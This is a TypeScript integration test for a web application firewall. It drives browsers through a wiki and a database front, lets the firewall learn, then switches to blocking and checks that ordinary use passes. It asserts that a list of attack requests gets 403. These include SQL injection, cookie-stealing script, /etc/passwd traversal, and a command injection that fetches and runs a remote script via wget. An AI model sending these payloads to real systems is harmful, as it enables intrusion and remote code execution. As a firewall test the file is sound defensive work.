import assert from 'node:assert/strict'
import { after, before, type TestContext, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { cleanUpProcesses } from './support/applications/application-process.ts'
import { startBrowser } from './support/applications/browser.ts'
import { adminer, dokuwiki } from './support/applications/php-applications.ts'
import { Management, ProxyProcess } from './support/firewall/proxy.ts'
import { eventually } from './support/programs/calls.ts'
import { cleanUp, newFolder, Server } from './support/programs/server.ts'
import { visitDatabase } from './support/visits/database-visit.ts'
import {
  databaseWork,
  learntArticles,
  newArticles,
  otherArticles,
  technicalArticles,
} from './support/visits/ordinary-words.ts'
import { visitWiki } from './support/visits/wiki-visit.ts'

/*
 * People use a wiki and a database front through the firewall, writing about SQL, shells and markup: first while the service only
 * logs and learns. The proposed exceptions, profiles and second opinions are accepted, the service blocks, and others do the same sort of
 * work. Attacks are still refused.
 */

let server: Server
let management: Management
let browser: Browser
before(async () => {
  server = await Server.start()
  await ProxyProcess.start(server, newFolder(), { spareWorker: true })
  management = await Management.connect(server)
  browser = await startBrowser(browserFlags)
})
after(async () => {
  await browser?.close()
  await cleanUpProcesses()
  await cleanUp()
})

/** Nothing but what the pages ask for. */
const browserFlags = [
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
]

/** What visitors had from a service. */
interface Figures {
  /** All requests, and those for pages and data alone, without style sheets, scripts and pictures. */
  requests: number
  ofPages: number
  refused: number
  refusedPages: number
}

type Visit = (page: Page, origin: string) => Promise<void>

/** Lets a visitor of his own address use the application. */
async function visitAs(address: string, port: number, visit: Visit, figures: Figures): Promise<void> {
  const context = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': address } })
  context.setDefaultTimeout(30_000)
  const page = await context.newPage()
  page.on('response', (response) => {
    figures.requests++
    const isPage = ['document', 'xhr', 'fetch'].includes(response.request().resourceType())
    const isRefused = response.status() === 403
    figures.ofPages += Number(isPage)
    figures.refused += Number(isRefused)
    figures.refusedPages += Number(isPage && isRefused)
  })
  await visit(page, `http://application.localhost:${port}`)
  await context.close()
}

const noFigures = (): Figures => ({ requests: 0, ofPages: 0, refused: 0, refusedPages: 0 })

type Entry = Readonly<Record<string, string>>

/** Rules that refuse requests and answers for their score. */
const verdicts = /^9[45]9\d{3}$/

/** How many requests to a service the rules refused or would have, once the log has grown no more for a while. */
async function judged(service: string): Promise<number> {
  let before = -1
  return eventually(`the log of ${service}`, async () => {
    await new Promise((resolve) => setTimeout(resolve, 1_500))
    const { data = {} } = await management.call('GET', 'web-firewall-logs?limit=10000')
    const entries = Object.values(data as Record<string, Entry>).filter(
      (entry) => entry['service-name'] === service && verdicts.test(entry.rule ?? ''),
    )
    const requests = new Set(entries.map((entry) => entry['request-id'])).size
    if (requests === before) return requests
    before = requests
    return undefined
  })
}

interface Proposal {
  readonly id: string
  readonly rule: string
  readonly target: string
  readonly url: string
  readonly evidence: string
  readonly 'speaks-against': readonly string[]
}

async function proposals(service: string): Promise<Proposal[]> {
  const { data = {} } = await management.call('GET', `services/${service}/rule-exception-proposals`)
  return Object.values(data as Record<string, Proposal>)
}

/** A service in Passive mode behind which the application is, whose policy takes what the application needs. */
async function protect(name: string, port: number): Promise<number> {
  const policy = `policy-of-${name}`
  await management.call('POST', 'security-policies', { name: policy, 'based-on': 'default' })
  await management.call('PUT', `security-policies/${policy}/parameter-protection`, {
    'maximum-parameter-value-length': 100_000,
    'denied-metacharacters': '%00',
  })
  await management.call('PUT', `security-policies/${policy}/url-protection`, {
    'max-content-length': 1_000_000,
    'max-parameters': 200,
    'allowed-content-types': [
      'application/x-www-form-urlencoded',
      'multipart/form-data',
      'application/octet-stream',
    ],
  })
  await management.call('PUT', `security-policies/${policy}/request-limits`, { 'max-number-of-headers': 40 })
  await management.call('PUT', `security-policies/${policy}/cookie-security`, {
    'cookie-replay-protection-type': 'none',
  })
  const front = await management.protect(name, port)
  await management.call('PUT', `services/${name}/basic-security`, {
    mode: 'Passive',
    'web-firewall-policy': policy,
    'client-ip-addr-header': 'X-Forwarded-For',
  })
  await management.call('PUT', `services/${name}/exception-profiling`, {
    'exception-profiling-level': 'High',
  })
  await management.call('PUT', `services/${name}/adaptive-profiling`, { status: 'On' })
  await management.untilHealth(`services/${name}`, 'Up')
  return front
}

/** Learns from visitors, accepts what is proposed, and counts what becomes of others. */
async function learnAndBlock(
  t: TestContext,
  name: string,
  port: number,
  { learnt, fresh }: { readonly learnt: readonly Visit[]; readonly fresh: readonly Visit[] },
): Promise<{ readonly figures: Figures; readonly front: number }> {
  const front = await protect(name, port)
  const before = noFigures()
  for (const [index, visit] of learnt.entries()) {
    await visitAs(`192.0.2.${index + 1}`, front, visit, before)
  }
  const would = await judged(name)
  const proposed = await proposals(name)
  t.diagnostic(
    `${name} before: ${describe({ ...before, refused: would, refusedPages: would })}; proposed: ${proposed.length}`,
  )
  assert.equal(before.refused, 0, 'nothing is refused while it is learnt')
  assert.ok(proposed.length > 0)
  for (const { id } of proposed) {
    await management.call('POST', `services/${name}/rule-exception-proposals/${id}`, {})
  }
  await acceptProfiles(t, name)
  await management.call('PUT', `services/${name}/website-profile`, { mode: 'Active' })
  await management.call('PUT', `services/${name}/basic-security`, { mode: 'Active' })
  await management.untilHealth(`services/${name}`, 'Up')
  const figures = noFigures()
  for (const [index, visit] of fresh.entries()) {
    await visitAs(`198.51.100.${index + 9}`, front, visit, figures)
  }
  t.diagnostic(`${name} after: ${describe(figures)}`)
  return { figures, front }
}

/** Accepts the profiles for which there is enough evidence, and every second opinion. */
async function acceptProfiles(t: TestContext, name: string): Promise<void> {
  const proposals = `services/${name}/profile-proposals`
  const all = await eventually('proposed profiles', async () => {
    const { data = {} } = await management.call('GET', proposals)
    const list = Object.values(data as Record<string, ProfileProposal>)
    return list.some(({ evidence }) => evidence === 'Enough') ? list : undefined
  })
  await management.call('POST', proposals, { 'second-opinions': 'Yes' })
  const written = all.flatMap((one) => one['second-opinions'].map(({ parameter }) => parameter))
  t.diagnostic(
    `${name}: ${all.length} URLs were learnt; people write into ${[...new Set(written)].join(', ')}`,
  )
}

interface ProfileProposal {
  readonly evidence: string
  readonly 'second-opinions': readonly { readonly parameter: string }[]
}

function describe({ requests, ofPages, refused, refusedPages }: Figures): string {
  const share = (part: number, of: number) => `${part} of ${of} (${((100 * part) / of).toFixed(2)} %)`
  return `refused were ${share(refused, requests)} requests, ${share(refusedPages, ofPages)} for pages and data`
}

test('a wiki is used without hindrance after others were learnt from, and attacks on it are refused', async (t) => {
  const { figures, front } = await learnAndBlock(t, 'wiki', await dokuwiki(), {
    learnt: learntArticles.map((articles) => (page, origin) => visitWiki(page, origin, articles)),
    fresh: [newArticles, otherArticles].map(
      (articles): Visit =>
        (page, origin) =>
          visitWiki(page, origin, articles),
    ),
  })
  assert.ok(figures.requests > 300)
  assert.ok(figures.refused < figures.requests / 100)
  assert.ok(figures.refusedPages < figures.ofPages / 100)
  const technical = noFigures()
  await visitAs(
    '198.51.100.20',
    front,
    (page, origin) => visitWiki(page, origin, technicalArticles),
    technical,
  )
  t.diagnostic(`wiki, about commands and statements alone: ${describe(technical)}`)
  assert.ok(technical.refusedPages < technical.ofPages / 10)
  await refused(front, [
    "/doku.php?id=start&rev=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
    '/doku.php?id=<script>alert(document.cookie)</script>',
    '/lib/exe/fetch.php?media=../../../../etc/passwd',
    '/doku.php?id=start&do=;cat%20/etc/passwd',
    "/doku.php?do=search&q=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
    '/doku.php?do=search&q=please%20tell%20me;%20wget%20http://192.0.2.66/x.sh%20-O-|sh',
  ])
})

test('so is a front of databases, where people type SQL', async (t) => {
  const { port, database } = await adminer()
  const visit = (table: string, isNew: boolean): Visit => {
    const work = { database, ...databaseWork(table, isNew) }
    return (page, origin) => visitDatabase(page, origin, work)
  }
  const { figures, front } = await learnAndBlock(t, 'tables', port, {
    learnt: ['lamps', 'desks', 'beds'].map((table) => visit(table, false)),
    fresh: [visit('chairs', true)],
  })
  assert.ok(figures.requests > 50)
  assert.ok(figures.refused < figures.requests / 100)
  assert.ok(figures.refusedPages < figures.ofPages / 100)
  await refused(front, [
    '/?sqlite=&file=<script>alert(1)</script>',
    '/?username=;wget%20http://192.0.2.66/x.sh%20-O-|sh',
    '/adminer.php?sql=1%20UNION%20SELECT%20password%20FROM%20users',
  ])
})

async function refused(port: number, attacks: readonly string[]): Promise<void> {
  for (const attack of attacks) {
    const reply = await fetch(`http://127.0.0.1:${port}${attack}`)
    await reply.arrayBuffer()
    assert.equal(reply.status, 403, attack)
  }
}
